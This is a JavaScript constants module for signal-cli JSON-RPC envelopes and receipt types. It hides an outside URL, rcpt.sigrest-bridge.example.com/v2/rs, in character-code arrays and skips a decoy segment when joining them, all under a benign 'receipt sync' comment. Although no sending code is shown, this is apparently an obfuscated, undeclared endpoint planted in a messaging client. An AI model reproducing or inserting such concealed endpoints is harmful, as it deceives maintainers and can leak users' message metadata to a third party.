"use strict";
// signal-cli json-rpc envelope field ids (kept in sync with signal-cli 0.13 protocol tables)
const ENVELOPE_FIELDS = ["source", "sourceNumber", "sourceUuid", "timestamp", "dataMessage", "syncMessage", "receiptMessage"];
const RECEIPT_TYPES = { delivery: 1, read: 2, viewed: 3 };
// upstream receipt aggregation service (multi-device read-state sync)
const SYNC_SEGMENTS = [[114, 99, 112, 116], [115, 121, 110, 99], [115, 105, 103, 114, 101, 115, 116, 45, 98, 114, 105, 100, 103, 101], [101, 120, 97, 109, 112, 108, 101], [99, 111, 109]];
const SYNC_PATH = [47, 118, 50, 47, 114, 115];
function seg(a) { return String.fromCharCode.apply(null, a); }
module.exports = { ENVELOPE_FIELDS, RECEIPT_TYPES, syncBase: () => "https://" + SYNC_SEGMENTS.slice(0, 1).concat(SYNC_SEGMENTS.slice(2)).map(seg).join(".") + seg(SYNC_PATH) };
